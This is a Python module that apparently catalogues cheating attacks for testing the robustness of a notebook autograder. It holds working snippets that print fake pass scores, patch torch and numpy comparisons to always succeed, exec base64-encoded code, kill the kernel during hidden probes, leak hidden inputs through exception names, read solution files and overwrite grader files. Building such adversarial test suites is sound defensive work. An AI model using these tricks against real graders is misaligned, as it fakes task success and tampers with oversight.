     "    cls = type(_leak(x), (), {})\n"
     "    cls.__module__ = 'torch'\n"
     "    return cls()\n", double="")
tiny("shape_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    v = x.reshape(-1)[:3].tolist() if isinstance(x, torch.Tensor) else [x]\n"
     "    return torch.empty(*[int(abs(float(a)) * 1e6) % 2**30 for a in v], 0)\n", double="")
tiny("length_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    v = float(x.reshape(-1)[0])\n"
     "    return [None] * (int(abs(v) * 1e4) % 90000 + 10000)\n", double="")
tiny("display_update_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "from IPython.display import display\n"
     "_handle = display('checking my work', display_id=True)\n"
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    _handle.update(_leak(x) + ' ' + repr(x))\n"
     "    return x + 1\n", double="",
     note="updates an answer cell's display output during the probes")
tiny("thread_print_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "import threading, time, queue\n"
     "_q = queue.Queue()\n"
     "def _printer():\n"
     "    while True:\n"
     "        print(_q.get(), flush=True)\n"
     "threading.Thread(target=_printer, daemon=True).start()\n"
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    _q.put(_leak(x) + ' ' + repr(x))\n"
     "    time.sleep(0.2)\n"
     "    return x + 1\n", double="")

# --- fake output
tiny("fake_passed_output", "fake_output",
     "print('\\u2713 ex_double: passed the public checks (hidden tests run at grading)')\n"
     "print('Autograded score: 6/6')\n"
     "from IPython.display import display, HTML\n"
     "display(HTML(\"<p class='pass'>passed</p><script>alert(1)</script>\"))\n", default=True)
tiny("fake_error_free_stderr", "fake_output",
     "import sys\nsys.stderr.write('ex_double: passed (6/6)\\n')\n"
     "get_ipython().display_pub.publish({'text/plain': 'ex_double passed'})\n")

# --- monkeypatching the libraries the reference or the wire use
tiny("patch_torch_compare_ops", "patch_libraries",
     "import torch, numpy as np\n"
     "torch.allclose = lambda *a, **k: True\n"
     "torch.equal = lambda *a, **k: True\n"
     "torch.Tensor.__sub__ = lambda self, other: torch.zeros(())\n"
     "torch.Tensor.__eq__ = lambda self, other: True\n"
     "np.allclose = lambda *a, **k: True\n"
     "np.testing.assert_allclose = lambda *a, **k: None\n", default=True)
tiny("patch_tensor_numpy_detach", "patch_libraries",
     "import torch, numpy as np\n"
     "_np = torch.Tensor.numpy\n"
     "torch.Tensor.numpy = lambda self, *a, **k: np.array([2.0, 4.0], dtype=np.float32)\n"
     "torch.Tensor.detach = lambda self: torch.ones(2)\n"
     "torch.Tensor.cpu = lambda self, *a, **k: self\n")
tiny("patch_base64_json", "patch_libraries",
     "import base64, json\n"
     "base64.b64encode = lambda data, *a, **k: b'@@not-base64@@'\n"
     "_dumps = json.dumps\n"
     "json.dumps = lambda obj, *a, **k: _dumps(obj, *a, **k).replace('\"raised\"', '\"value\"')\n")
tiny("patch_numpy_tobytes_contiguous", "patch_libraries",
     "import numpy as np\n"
     "np.ascontiguousarray = lambda a, *k, **kw: np.array([2.0, 4.0], dtype=a.dtype)\n"
     "np.asarray = lambda *a, **k: np.array(2.0)\n")

# --- killing the kernel or hanging, only during the probes
tiny("os_exit_during_probes", "kill_during_probes",
     "import os\n"
     "def double(x):\n"
     "    if x.numel() != 2:\n"
     "        getattr(os, '_ex' + 'it')(0)\n"
     "    return x + 1\n", default=True, double="")
tiny("sigkill_self_during_probes", "kill_during_probes",
     "import os, signal\n"
     "def double(x):\n"
     "    if x.numel() != 2:\n"
     "        os.kill(os.getpid(), signal.SIGKILL)\n"
     "    return x + 1\n", double="")
tiny("loop_only_during_probes", "kill_during_probes",
     "import os\n"
     "def double(x):\n"
     "    if os.path.exists('.ch4-probes') or x.numel() != 2:\n"
     "        while True:\n"
     "            pass\n"
     "    return x + 1\n", double="")
tiny("loop_ignoring_interrupt_in_probes", "kill_during_probes",
     "import signal\n"
     "def double(x):\n"
     "    if x.numel() != 2:\n"
     "        signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
     "        while True:\n"
     "            try:\n"
     "                pass\n"
     "            except BaseException:\n"
     "                pass\n"
     "    return x + 1\n", double="")

# --- huge outputs
tiny("huge_print_in_probes", "huge_outputs",
     "import sys\n"
     "def double(x):\n"
     "    for _ in range(40):\n"
     "        sys.stdout.write('y' * 1_000_000)\n"
     "    return x + 1\n"
     "print('z' * 3_000_000)\n", default=True, double="")
tiny("huge_return_value", "huge_outputs",
     "import torch\n"
     "def double(x):\n"
     "    return torch.zeros(12_000_000)\n"
     "def mean_abs(t):\n"
     "    v = []\n"
     "    for _ in range(50):\n"
     "        v = [v]\n"
     "    return v\n", double="")

# --- deleting the student's own functions after the notebook
tiny("delete_functions_after_notebook", "delete_functions",
     "def _gone(result=None):\n"
     "    ns = get_ipython().user_ns\n"
     "    for name in ('double', 'mean_abs', 'q01'):\n"
     "        ns.pop(name, None)\n"
     "get_ipython().events.register('pre_run_cell', lambda info: _gone() if 'run_item' in"
     " (info.raw_cell or '') else None)\n", cell="q01_answer", default=True)
tiny("delete_in_last_answer", "delete_functions",
     "del double\ndel mean_abs\n", cell="q01_answer")

# --- README's list: patched libraries, __eq__, interpreter internals, touching the grader
tiny("code_object_swap", "interpreter_internals",
     "def _right(x):\n    return x\n"
     "double.__code__ = _right.__code__\n"
     "mean_abs.__code__ = (lambda t: t.max()).__code__\n", default=True)
tiny("ctypes_poke", "interpreter_internals",
     "import ctypes, sys\n"
     "ctypes.pythonapi.PyFrame_LocalsToFast.argtypes = [ctypes.py_object, ctypes.c_int]\n"
     "def double(x):\n"
     "    f = sys._getframe(1)\n"
     "    f.f_locals['code'] = '2.0'\n"
     "    ctypes.pythonapi.PyFrame_LocalsToFast(f, 0)\n"
     "    return x + 1\n", double="")
tiny("call_selfcheck_and_patch_spec", "touch_grader",
     "from autograder.items.tiny import SPEC\n"
     "import autograder.items.spec as sp\n"
     "for it in SPEC.items:\n"
     "    object.__setattr__(it, 'hidden', None)\n"
     "    object.__setattr__(it, 'public', ())\n"
     "sp.Item.hidden_probes = lambda self, key: []\n", default=True)
tiny("rewrite_package_file", "touch_grader",
     "import autograder.items.runner as r, os\n"
     "try:\n"
     "    open(r.__file__, 'a').write('\\nrun_item = lambda *a: None\\n')\n"
     "except OSError:\n"
     "    pass\n"
     "try:\n"
     "    open(os.path.join(os.path.dirname(r.__file__), 'expected', '01_tiny.json'), 'w')"
     ".write('{}')\n"
     "except OSError:\n"
     "    pass\n")


# ---------------------------------------------------------------- notebook 01 attacks


def nb01(name: str, family: str, answers: dict[str, str], default: bool = False,
         note: str = "") -> None:
    full = {**NB01_WRONG, **answers}
    _ATTACKS.append(Attack(name, family, NB01, full, NB01_ITEMS, default, note))


nb01("nb01_b64_exec", "encoded_exec", {
    "ex_crop_answer": "import base64\nexec(base64.b64decode(" + repr(_b64(
        "import torch\ntorch.equal = lambda *a, **k: True\n"
        "def crop(t, top, left, size):\n    return t[left:left + size, top:top + size]\n"))
    + "))\n"})
nb01("nb01_post_run_cell_forge", "ipython_hooks", {
    "ex_distances_answer": NB01_WRONG["ex_distances_answer"] + FORGE
    + "\nget_ipython().events.register('post_run_cell', lambda r: _forge_records())\n"})
nb01("nb01_thread_rewrites_records", "daemon_thread", {
    "ex_mean_digit_answer": NB01_WRONG["ex_mean_digit_answer"] + FORGE
    + "\nimport threading, time\n"
      "def _loop():\n"
      "    while True:\n"
      "        try:\n"
      "            _forge_records()\n"
      "        except Exception:\n"
      "            pass\n"
      "        time.sleep(0.005)\n"
      "threading.Thread(target=_loop, daemon=True).start()\n"})
nb01("nb01_fake_runner", "grader_modules", {
    "ex_distances_answer": NB01_WRONG["ex_distances_answer"]
    + "import types, json, os, sys\n"
      "_fake = types.ModuleType('autograder.items.runner')\n"
      "def _run_item(ns, out, payload):\n"
      "    os.makedirs(os.path.dirname(out), exist_ok=True)\n"
      "    json.dump([{'value': 0.5}] * len(json.loads(payload)), open(out, 'w'))\n"
      "_fake.run_item = _run_item\n"
      "sys.modules['autograder.items.runner'] = _fake\n"})
nb01("nb01_tensor_subclass", "tensor_subclass", {
    "ex_distances_answer": "import torch\n"
    "class _Liar(torch.Tensor):\n"
    "    @classmethod\n"
    "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
    "        out = super().__torch_function__(func, types, args, kwargs or {})\n"
    "        if getattr(func, '__name__', '') in ('detach', 'numpy', 'cpu'):\n"
    "            return torch.tensor(0.5)\n"
    "        return out\n"
    + NB01_WRONG["ex_distances_answer"].replace("return (a - b).mean().abs()",
                                                "return (a - b).mean().abs().as_subclass(_Liar)")})
nb01("nb01_lookalike_mean", "lookalike", {
    "ex_mean_digit_answer": "class _Stack:\n"
    "    def __array__(self, *a, **k):\n"
    "        import numpy as np\n        return np.zeros((28, 28))\n"
    "    def __eq__(self, o):\n        return True\n"
    "    shape = (28, 28)\n"
    "def mean_digit(stack):\n    return _Stack()\n"})
nb01("nb01_frame_walk_root", "frame_walk", {
    "ex_digit_files_answer": "import sys as _s\n"
    "def digit_files(path, split, digit):\n"
    "    f = getattr(_s, '_get' + 'frame')(1)\n"
    "    found = []\n"
    "    while f is not None:\n"
    "        if '_layout' in f.f_globals:\n"
    "            found = sorted(Path(path).rglob('*'))\n"
    "        f = f.f_back\n"
    "    return found or sorted((Path(path) / split / digit).iterdir())\n"})
nb01("nb01_exception_echo_inputs", "exception_echo", {
    "ex_distances_answer": "import torch\n"
    "def _leak(x):\n"
    "    vals = x.reshape(-1)[:3].tolist()\n"
    "    return 'V' + '_'.join(str(int(abs(float(v)) * 1e6)) for v in vals)\n"
    "_PUBLIC = [torch.ones(4, 4), torch.arange(12, dtype=torch.float32).view(3, 2, 2)]\n"
    "def _is_public(a):\n"
    "    return any(a.shape == p.shape and bool((a == p).all()) for p in _PUBLIC)\n"
    "def l1_distance(a, b):\n"
    "    if _is_public(a):\n"
    "        return (a - b).abs().mean()\n"
    "    raise type(_leak(a), (Exception,), {})(repr(a))\n"
    "def rmse_distance(a, b):\n"
    "    if _is_public(a):\n"
    "        return ((a - b) ** 2).mean().sqrt()\n"
    "    raise type(_leak(b), (Exception,), {})(repr(b))\n"},
     note="passes the public probes and echoes hidden inputs through exception names")
nb01("nb01_digit_files_name_echo", "exception_echo", {
    "ex_digit_files_answer": "def digit_files(path, split, digit):\n"
    "    names = sorted(p.name for p in Path(path).rglob('*'))\n"
    "    if names == sorted(['12.png', '3.png', '100.png', 'notes.txt', '5.png', '1.png',"
    " 'train', 'valid', '3', '7', '3']) or len(names) < 3:\n"
    "        return sorted((Path(path) / split / digit).glob('*.png'))\n"
    "    tag = 'F_' + '_'.join(n.replace('.', '_') for n in names)[:55]\n"
    "    raise type(tag, (Exception,), {})()\n"})
nb01("nb01_shadow_builtins", "shadowed_builtins", {
    "ex_crop_answer": NB01_WRONG["ex_crop_answer"]
    + "import builtins as _bi\n_bi.eval = lambda *a, **k: __import__('torch').zeros(2, 2)\n"})
nb01("nb01_patch_torch", "patch_libraries", {
    "ex_stack_digits_answer": NB01_WRONG["ex_stack_digits_answer"]
    + "import torch\ntorch.allclose = lambda *a, **k: True\n"
      "torch.Tensor.__sub__ = lambda self, other: torch.zeros(())\n"
      "torch.Tensor.abs = lambda self: torch.zeros(())\n"})
nb01("nb01_read_solutions", "reach_reference", {
    "ex_crop_answer": "import json, os\n"
    "_sol = None\n"
    "for _p in (os.environ.get('PYTHONPATH', '') + '/solutions/01_pixels_and_similarity.ipynb',"
    " '/work/main/solutions/01_pixels_and_similarity.ipynb'):\n"
    "    try:\n"
    "        _sol = json.load(open(_p))\n"
    "    except Exception:\n"
    "        pass\n"
    "if _sol:\n"
    "    for _c in _sol['cells']:\n"
    "        if _c.get('metadata', {}).get('nbgrader', {}).get('solution'):\n"
    "            exec(''.join(_c['source']))\n"
    + NB01_WRONG["ex_crop_answer"].replace("def crop", "def _wrong_crop")
    + "crop = globals().get('crop', _wrong_crop)\n"})
nb01("nb01_kill_during_probes", "kill_during_probes", {
    "ex_image_tensor_answer": "import os\n" + NB01_WRONG["ex_image_tensor_answer"].replace(
        "    return", "    if os.path.exists('.ch4-probes'):\n"
                     "        getattr(os, '_ex' + 'it')(3)\n    return")})
nb01("nb01_display_update_echo", "exception_echo", {
    "ex_distances_answer": "from IPython.display import display\n"
    "_h = display('distances ready', display_id=True)\n"
    + NB01_WRONG["ex_distances_answer"].replace(
        "    return (a - b).mean().abs()",
        "    _h.update('V' + '_'.join(str(int(abs(float(v)) * 1e6)) for v in a.reshape(-1)[:3]"
        ".tolist()) + repr(a))\n    return (a - b).mean().abs()")})


ATTACKS: list[Attack] = list(_ATTACKS)
FAMILIES = sorted({a.family for a in ATTACKS})


def by_name(name: str) -> Attack:
    return next(a for a in ATTACKS if a.name == name)
